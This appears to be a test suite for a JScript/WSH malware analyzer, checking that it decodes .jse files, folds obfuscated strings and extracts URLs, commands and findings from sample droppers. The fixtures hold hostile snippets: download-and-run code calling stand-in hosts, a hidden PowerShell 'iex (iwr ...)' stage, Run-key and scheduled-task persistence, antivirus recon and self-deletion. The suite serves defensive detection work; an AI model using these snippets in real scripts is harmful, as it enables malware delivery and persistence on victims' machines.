import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { analyze } from '../src/analyze.ts';
import { decodeEncodedScript } from '../src/analyzers/jscript/jse.ts';
import { parseScript } from '../src/analyzers/jscript/static/ast.ts';
import { resolveConditionalCompilation } from '../src/analyzers/jscript/static/conditional-compilation.ts';
import { decodedStrings } from '../src/analyzers/jscript/static/fold.ts';
import { defaultConfig } from '../src/config.ts';
import { openServices, type OpenServices } from '../src/services.ts';
import type { Report } from '../src/verdict/report.ts';
import { dropperScript, encodeJse } from './generators/jscript.ts';

const text = (s: string) => new TextEncoder().encode(s);
const config = defaultConfig();
let opened: OpenServices;
before(async () => {
  opened = await openServices(config);
});
after(async () => {
  await opened.close();
});
const run = (name: string, source: string): Promise<Report> => analyze({ name, data: text(source) }, config, opened.services);
const urlsOf = (r: Report) => r.iocs.filter((i) => i.type === 'url').map((i) => i.value);
const commandsOf = (r: Report) => r.artifacts.filter((a) => a.relation === 'executed-command' && a.kind === 'cmdline');

const URLS = ['http://first.example/a.exe', 'http://second.example/b.exe', 'http://203.0.113.9/c.exe'];
const COMMAND = 'cmd.exe /c start "" "%FILE%"';

test('.jse: encoding then decoding gives the script back', () => {
  const source = 'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc <x> @y", 0);\n\tWScript.Echo(\'done\');';
  const encoded = encodeJse(source);
  assert.match(encoded, /^#@~\^.{6}==.*\^#~@$/s);
  assert.ok(!encoded.includes('ActiveXObject'));
  assert.equal(decodeEncodedScript(encoded), source);
});

test('conditional compilation: the code WSH compiles comes out of its comment', () => {
  const out = resolveConditionalCompilation('/*@cc_on @if (@_win32) var a = "yes"; @else var a = "no"; @end @*/');
  assert.equal(new Function(`${out}; return a;`)(), 'yes');
});

test('static pass: folds fromCharCode, reversed strings and a rotated string array', () => {
  const ast = parseScript(dropperScript({ urls: URLS, command: COMMAND }))!;
  const strings = decodedStrings(ast);
  for (const word of ['WScript.Shell', 'MSXML2.XMLHTTP', 'ADODB.Stream', 'payload.exe', '%TEMP%\\']) {
    assert.ok(strings.some((s) => s.includes(word)), `${word} in ${JSON.stringify(strings)}`);
  }
});

test('static pass: methods the script adds to String.prototype are folded too', () => {
  const ast = parseScript('String.prototype.clean = function () { return ("noise", this.split(",").join("")); };\nvar sh = WScript.CreateObject("W,S,c,r,i,p,t,.,S,h,e,l,l".clean());')!;
  assert.ok(decodedStrings(ast).includes('WScript.Shell'));
});

test('a dropper: every URL of its list is an IOC and a link; the command it runs is a command-line child', async () => {
  const r = await run('invoice.js', dropperScript({ urls: URLS, command: COMMAND }));
  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
  assert.ok(r.iocs.some((i) => i.type === 'domain' && i.value === 'first.example'));
  assert.ok(r.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9'));
  for (const u of URLS) assert.ok(r.artifacts.some((a) => a.relation === 'link' && a.kind === 'url' && a.name === u));
  const commands = commandsOf(r);
  assert.equal(commands.length, 1);
  assert.ok(r.findings.some((f) => f.id === 'jscript.exec.command' && f.evidence.includes('cmd.exe /c start') && f.evidence.includes('payload.exe')));
  assert.ok(r.findings.some((f) => f.id === 'jscript.dropper.download-and-run'));
  assert.equal(r.verdict, 'malicious');
  assert.ok(r.attack.includes('T1059.007') && r.attack.includes('T1105'));
  const root = r.artifacts.find((a) => a.relation === 'root')!;
  assert.equal(root.kind, 'jscript');
});

test('URLs behind @cc_on and a second stage run through eval are found; the eval code is a decoded child', async () => {
  const r = await run('stage.js', dropperScript({ urls: URLS, command: COMMAND, conditional: true, secondStage: true }));
  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
  assert.ok(r.findings.some((f) => f.id === 'jscript.obfuscation.dynamic-code'));
  const decoded = r.artifacts.find((a) => a.relation === 'decoded' && a.kind === 'jscript');
  assert.ok(decoded, 'the eval layer is an artifact');
  assert.ok(commandsOf(r).length >= 1);
});

test('an encoded .jse dropper is decoded first and analysed like the plain one', async () => {
  const r = await run('invoice.jse', encodeJse(dropperScript({ urls: URLS, command: COMMAND })));
  assert.equal(r.artifacts[0]!.kind, 'jse');
  assert.ok(r.findings.some((f) => f.id === 'jscript.obfuscation.encoded'));
  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
  assert.equal(commandsOf(r).length, 1);
});

test('WSH surface: registry persistence, scheduled task, WMI process creation and recon become findings', async () => {
  const source = `
    var sh = WScript.CreateObject("wscript.shell");
    sh.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd", "wscript.exe " + WScript.ScriptFullName, "REG_SZ");
    var svc = new ActiveXObject("Schedule.Service"); svc.Connect();
    var def = svc.NewTask(0); var act = def.Actions.Create(0); act.Path = "powershell.exe"; act.Arguments = "-nop -w hidden -c iex 1";
    svc.GetFolder("\\\\").RegisterTaskDefinition("Updater", def, 6, null, null, 3);
    var wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2");
    var avs = GetObject("winmgmts:\\\\\\\\.\\\\root\\\\SecurityCenter2").ExecQuery("SELECT * FROM AntiVirusProduct");
    var os = wmi.ExecQuery("Select * from Win32_OperatingSystem");
    var e = new Enumerator(os); var caption = e.item().Caption;
    wmi.Get("Win32_Process").Create("rundll32.exe C:\\\\Users\\\\Public\\\\x.dll,DllRegisterServer", null, null, 0);
    WScript.Sleep(15000);
    var who = new ActiveXObject("WScript.Network").UserName;
    var fake = new ActiveXObject("Totally.Unknown.Thing"); fake.DoSomething(1).Deeper = 2;
    sh.NoSuchMember();
    new ActiveXObject("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName, true);
  `;
  const r = await run('persist.js', source);
  const ids = new Set(r.findings.map((f) => f.id));
  for (const id of ['jscript.persistence.run-key', 'jscript.registry.write', 'jscript.persistence.scheduled-task', 'jscript.wmi.query', 'jscript.recon.security-products', 'jscript.exec.command', 'jscript.evasion.sleep', 'jscript.recon.environment', 'jscript.evasion.self-delete']) {
    assert.ok(ids.has(id), `${id} in ${[...ids].join(', ')}`);
  }
  const commands = commandsOf(r).map((a) => a.name);
  assert.equal(commands.length, 2, 'the task action and Win32_Process.Create are both command lines');
  const root = r.artifacts.find((a) => a.relation === 'root')!;
  assert.equal(root.facts?.unknownProgIds, 1);
  assert.ok(Number(root.facts?.unknownMembers) >= 2);
});

test('files the script writes itself become dropped-file children; the stand-in download never does', async () => {
  const source = `
    var fso = new ActiveXObject("Scripting.FileSystemObject");
    var f = fso.CreateTextFile(fso.GetSpecialFolder(2) + "\\\\run.bat", true);
    f.WriteLine("@echo off"); f.WriteLine("start http://example.test/"); f.Close();
    var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://dl.example/p.bin", false); x.send();
  `;
  const r = await run('writer.js', source);
  const dropped = r.artifacts.filter((a) => a.relation === 'dropped-file');
  assert.equal(dropped.length, 1);
  assert.equal(dropped[0]!.name, 'run.bat');
  assert.ok(r.iocs.some((i) => i.type === 'filename' && i.value === 'run.bat'));
});

test('a harmless script stays benign', async () => {
  const r = await run('tool.js', 'var fso = new ActiveXObject("Scripting.FileSystemObject"); var n = 0; for (var i = 0; i < 10; i++) n += i; WScript.Echo("sum " + n);');
  assert.equal(r.verdict, 'benign');
  assert.equal(r.errors.length, 0);
});

test('JScript quirks: typeof of a COM method is "unknown", getYear gives the full year, WScript members ignore case', async () => {
  const source = `
    var sh = new ActiveXObject("WScript.Shell");
    var quirks = [typeof sh.Run, typeof sh["RegRead"], typeof WScript.echo, typeof "x".length, new Date(2016, 5, 1).getYear(), WScript.SCRIPTNAME];
    sh.Run("cmd /c echo " + quirks.join("|"));
  `;
  const r = await run('quirks.js', source);
  const cmd = r.findings.find((f) => f.id === 'jscript.exec.command')!;
  assert.ok(cmd.evidence.includes('cmd /c echo unknown|unknown|unknown|number|2016|quirks.js'), cmd.evidence);
});

test('ProgIDs ignore case; CLSID monikers and versioned names reach the same objects; an impossible name fails as under WSH', async () => {
  const source = `
    var names = ["microsoft.XMLHTTP", "MSXML2.ServerXMLHTTP.6.0", "WinHttp.WinHttpRequest.5.1", "new:{F6D90F11-9C73-11D3-B32E-00C04F990BB4}"];
    for (var i = 0; i < names.length; i++) { var x = new ActiveXObject(names[i]); x.Open("GET", "http://h" + i + ".example/p", false); x.Send(); }
    var sh = new ActiveXObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8");
    var failed = "no";
    try { new ActiveXObject("WinHttp.WinHttpRequest.(5+1).1"); } catch (e) { failed = "yes"; }
    sh.Run("cmd /c echo " + failed);
  `;
  const r = await run('progids.js', source + `
    new ActiveXObject("new:{0002DF01-0000-0000-C000-000000000046}").Navigate("http://ie.example/x");
    GetObject("script:http://sct.example/a.sct");
  `);
  assert.deepEqual(urlsOf(r).sort(), ['http://h0.example/p', 'http://h1.example/p', 'http://h2.example/p', 'http://h3.example/p', 'http://ie.example/x', 'http://sct.example/a.sct']);
  assert.ok(r.findings.some((f) => f.id === 'jscript.exec.command' && f.evidence.includes('cmd /c echo yes')));
  const root = r.artifacts.find((a) => a.relation === 'root')!;
  assert.equal(root.facts?.unknownProgIds, 1);
});

test('the clock moves with WScript.Sleep, in timer ticks with jitter, the same way on every run', async () => {
  // The anti-emulation check of 2016 droppers: time two sleeps; equal or zero means an emulator.
  const source = `
    var sh = new ActiveXObject("WScript.Shell");
    var t0 = new Date().getTime(); WScript.Sleep(22); var t1 = Date.now(); WScript.Sleep(22); var t2 = new Date().getTime();
    if (t1 - t0 >= 22 && t2 - t1 >= 22 && (t1 - t0) != (t2 - t1)) sh.Run("cmd /c slept " + (t1 - t0) + " " + (t2 - t1));
  `;
  const first = await run('timing.js', source);
  const second = await run('timing.js', source);
  const evidence = (r: Report) => r.findings.find((f) => f.id === 'jscript.exec.command')?.evidence ?? '';
  assert.match(evidence(first), /cmd \/c slept \d+ \d+/);
  assert.equal(evidence(first), evidence(second));
});

test('a dropper that picks its URLs at random picks the same ones on every run', async () => {
  const source = `
    var x = new ActiveXObject("MSXML2.XMLHTTP");
    for (var i = 0; i < 3; i++) { x.open("GET", "http://r" + Math.floor(Math.random() * 1e6) + ".example/", false); x.send(); }
  `;
  const a = urlsOf(await run('random.js', source));
  const b = urlsOf(await run('random.js', source));
  assert.equal(a.length, 3);
  assert.deepEqual(a, b);
});

test('base64 through an XML DOM element, written by ADODB.Stream, becomes the dropped file it decodes to', async () => {
  const payload = '@echo off\r\nstart powershell -nop -w hidden -c "iex (iwr http://stage2.example/a.ps1)"\r\n';
  const source = `
    var el = new ActiveXObject("MSXML2.DOMDocument").createElement("tmp");
    el.dataType = "bin.base64"; el.text = "${Buffer.from(payload).toString('base64')}";
    var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(el.nodeTypedValue);
    s.SaveToFile("C:\\\\Users\\\\Public\\\\go.bat", 2); s.Close();
    new ActiveXObject("Shell.Application").ShellExecute("C:\\\\Users\\\\Public\\\\go.bat", "", "", "open", 0);
    new ActiveXObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll();
  `;
  const r = await run('b64.js', source);
  const dropped = r.artifacts.find((a) => a.relation === 'dropped-file');
  assert.equal(dropped?.name, 'go.bat');
  assert.equal(dropped?.size, payload.length);
  const commands = r.iocs.filter((i) => i.type === 'command').map((i) => i.value);
  assert.deepEqual(commands.sort(), ['C:\\Users\\Public\\go.bat', 'cmd /c whoami']);
  assert.ok(r.findings.some((f) => f.id === 'jscript.dropper.download-and-run') === false, 'nothing was downloaded');
});

test('code passed to setTimeout, Function and document.write is a decoded layer of its own', async () => {
  const layer = (n: number) => `var sh${n} = new ActiveXObject("WScript.Shell"); sh${n}.Run("cmd /c layer${n}");`;
  const source = `
    setTimeout(${JSON.stringify(layer(1))}, 100);
    var f = new Function("a", ${JSON.stringify(layer(2))}); f(1);
    document.write(${JSON.stringify(layer(3))});
  `;
  const r = await run('layers.js', source);
  const decoded = r.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'jscript');
  assert.equal(decoded.length, 3);
  // The first two run inside the script; what document.write wrote runs when its own layer is analysed.
  const commands = r.iocs.filter((i) => i.type === 'command');
  assert.deepEqual(commands.map((i) => i.value).sort(), ['cmd /c layer1', 'cmd /c layer2', 'cmd /c layer3']);
  const written = decoded.find((a) => a.name.startsWith('document-write'))!;
  assert.equal(commands.find((i) => i.value === 'cmd /c layer3')!.artifact, written.id);
});

test('a script saved as UTF-16 (as Notepad does with "Unicode") is read as WSH reads it', async () => {
  const source = 'var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c echo héllo");';
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(source, 'utf16le')]);
  const r = await analyze({ name: 'unicode.js', data: new Uint8Array(utf16) }, config, opened.services);
  assert.ok(r.findings.some((f) => f.id === 'jscript.exec.command' && f.evidence.includes('echo héllo')), JSON.stringify(r.findings.map((f) => f.id)));
});
